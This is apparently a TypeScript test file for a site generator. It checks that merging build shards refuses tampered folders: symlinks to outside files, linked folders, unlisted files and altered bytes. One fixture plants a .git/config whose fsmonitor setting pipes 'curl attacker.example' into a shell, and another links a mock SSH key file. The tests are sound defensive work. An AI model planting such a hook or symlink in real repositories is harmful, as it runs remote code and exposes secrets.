/**
 * A merge trusts nothing in a shard folder (generator/split/verifyShardFolder.ts): a shard folder altered
 * after its shard wrote it (a symbolic link to a file outside, a linked folder, a file a shard never
 * writes, a page with other bytes) stops the merge with ShardTampered, naming the folder and the file,
 * before anything is written: the previous output stays byte for byte. Pages are taken at their routes'
 * files, whatever the manifest names. On the blog fixture in two shards.
 */
import { cp, mkdir, mkdtemp, readdir, readFile, rename, rm, symlink, writeFile } from 'node:fs/promises';
import { createHash } from 'node:crypto';
import { existsSync, lstatSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SiteOptions } from '../../generator/config.ts';
import { SiteError } from '../../generator/core/errors.ts';
import { mergeShards, shardBuild } from '../../generator/buildSplit.ts';

import { SHARD_MANIFEST, type ShardManifest } from '../../generator/split/shardManifest.ts';
import { BLOG_SITE, copyBlogContent } from './blogSite.ts';

let tmp: string;
let base: SiteOptions;
/** The two shards as written; each test alters a copy. */
const pristine: string[] = [];
/** The output of a merge of the pristine shards: every refused merge must leave it as it is. */
let out: string;
let copies = 0;

/** Every file of a folder, path -> bytes. */
async function readTree(dir: string): Promise<Map<string, Buffer>> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true });
  const files = entries.filter((e) => e.isFile() || e.isSymbolicLink()).map((e) => path.relative(dir, path.join(e.parentPath, e.name)));
  return new Map(await Promise.all(files.map(async (f) => [f, await readFile(path.join(dir, f))] as const)));
}

const expectTree = async (dir: string, expected: Map<string, Buffer>) => {
  const tree = await readTree(dir);
  expect([...tree.keys()].sort()).toEqual([...expected.keys()].sort());
  expect([...tree].filter(([f, data]) => !data.equals(expected.get(f)!)).map(([f]) => f)).toEqual([]);
};

/** A copy of shard `index` (1 or 2) to alter, with its manifest. */
async function shardCopy(index: number): Promise<{ dir: string; manifest: ShardManifest; save(): Promise<void> }> {
  const dir = path.join(tmp, `copy-${++copies}`);
  await cp(pristine[index - 1]!, dir, { recursive: true });
  const manifest = JSON.parse(await readFile(path.join(dir, SHARD_MANIFEST), 'utf8')) as ShardManifest;
  return { dir, manifest, save: () => writeFile(path.join(dir, SHARD_MANIFEST), JSON.stringify(manifest)) };
}

/** The merge of `dirs` into `into`; its SiteError (a merge that passed fails the test). */
async function mergeError(dirs: string[], into = out): Promise<SiteError> {
  const error = await mergeShards({ ...base, out: into, cacheDir: path.join(tmp, 'merge-cache') }, dirs).then(
    () => new Error('the merge passed'),
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(SiteError);
  return error as SiteError;
}

const sha = (data: string | Buffer) => createHash('sha256').update(data).digest('hex');
/** Files outside every shard folder, which no merge may publish. */
const SECRET = 'ssh-ed25519 AAAA the key of the machine that merges\n';

beforeAll(async () => {
  tmp = await mkdtemp(path.join(os.tmpdir(), 'site-shard-tampered-'));
  const content = await copyBlogContent(path.join(tmp, 'content'));
  base = { root: BLOG_SITE, content, backend: null, socialImages: false, log: () => {}, progress: false };
  for (const index of [1, 2]) {
    pristine.push(path.join(tmp, `shard-${index}`));
    await shardBuild({ ...base, out: pristine.at(-1)!, cacheDir: path.join(tmp, `cache-${index}`) }, { index, count: 2 });
  }
  out = path.join(tmp, 'out');
  await mergeShards({ ...base, out, cacheDir: path.join(tmp, 'merge-cache') }, pristine);
  await writeFile(path.join(tmp, 'id_ed25519.pub'), SECRET);
}, 600_000);
afterAll(() => rm(tmp, { recursive: true, force: true }));

describe('a merge of an altered shard folder', () => {
  it('refuses a page replaced by a symbolic link to a file outside, its size written into the manifest', async () => {
    const before = await readTree(out);
    const shard = await shardCopy(1);
    const page = shard.manifest.pages[0]!;
    await rm(path.join(shard.dir, page.file));
    await symlink(path.join(tmp, 'id_ed25519.pub'), path.join(shard.dir, page.file));
    page.bytes = Buffer.byteLength(SECRET);
    await shard.save();
    const e = await mergeError([shard.dir, pristine[1]!]);
    expect(e.code).toBe('ShardTampered');
    expect(e.args).toMatchObject({ dir: shard.dir, file: page.file });
    expect(e.message).toContain('is a symbolic link');
    await expectTree(out, before);
  });

  it('refuses a folder of the shard that is a symbolic link, though every file in it is as its manifest says', async () => {
    const before = await readTree(out);
    const shard = await shardCopy(1);
    const folder = path.dirname(shard.manifest.pages.find((p) => p.file.includes('/'))!.file).split('/')[0]!;
    await rename(path.join(shard.dir, folder), path.join(tmp, `outside-${copies}`));
    await symlink(path.join(tmp, `outside-${copies}`), path.join(shard.dir, folder));
    const e = await mergeError([shard.dir, pristine[1]!]);
    expect([e.code, e.args]).toEqual(['ShardTampered', expect.objectContaining({ file: folder })]);
    await expectTree(out, before);
    // No file of the output is a link, nor shares its bytes' file with anything else.
    for (const f of before.keys()) expect(lstatSync(path.join(out, f)).nlink).toBe(1);
  });

  it('refuses a file listed in the manifest that a shard never writes (.git/config)', async () => {
    const before = await readTree(out);
    const shard = await shardCopy(2);
    const config = '[core]\n\tfsmonitor = "curl attacker.example | sh"\n';
    await mkdir(path.join(shard.dir, '.git'));
    await writeFile(path.join(shard.dir, '.git', 'config'), config);
    shard.manifest.files.push({ file: '.git/config', bytes: Buffer.byteLength(config), sha: sha(config) });
    await shard.save();
    const e = await mergeError([pristine[0]!, shard.dir]);
    expect([e.code, e.args]).toEqual(['ShardTampered', expect.objectContaining({ dir: shard.dir, file: '.git/config' })]);
    expect(existsSync(path.join(out, '.git'))).toBe(false);
    await expectTree(out, before);
  });

  it("refuses a page with other bytes than its manifest's SHA-256, of the same size", async () => {
    const before = await readTree(out);
    const shard = await shardCopy(2);
    const page = shard.manifest.pages[0]!;
    const html = await readFile(path.join(shard.dir, page.file), 'utf8');
    // One letter of the title changed: the same size, other bytes.
    const at = html.indexOf('<title>') + '<title>'.length;
    const altered = `${html.slice(0, at)}${html[at] === 'X' ? 'Y' : 'X'}${html.slice(at + 1)}`;
    expect(Buffer.byteLength(altered)).toBe(page.bytes);
    await writeFile(path.join(shard.dir, page.file), altered);
    const e = await mergeError([pristine[0]!, shard.dir]);
    expect([e.code, e.args]).toEqual(['ShardTampered', expect.objectContaining({ dir: shard.dir, file: page.file })]);
    expect(e.message).toContain('holds other bytes than its manifest says');
    await expectTree(out, before);
  });

  it("takes each page at its route's file, whatever file the manifest names", async () => {
    const shard = await shardCopy(1);
    const page = shard.manifest.pages[0]!;
    await cp(path.join(shard.dir, page.file), path.join(shard.dir, 'elsewhere.html'));
    page.file = 'elsewhere.html';
    await shard.save();
    const into = path.join(tmp, 'out-routes');
    await mergeShards({ ...base, out: into, cacheDir: path.join(tmp, 'merge-cache') }, [shard.dir, pristine[1]!]);
    await expectTree(into, await readTree(out));
  });
});
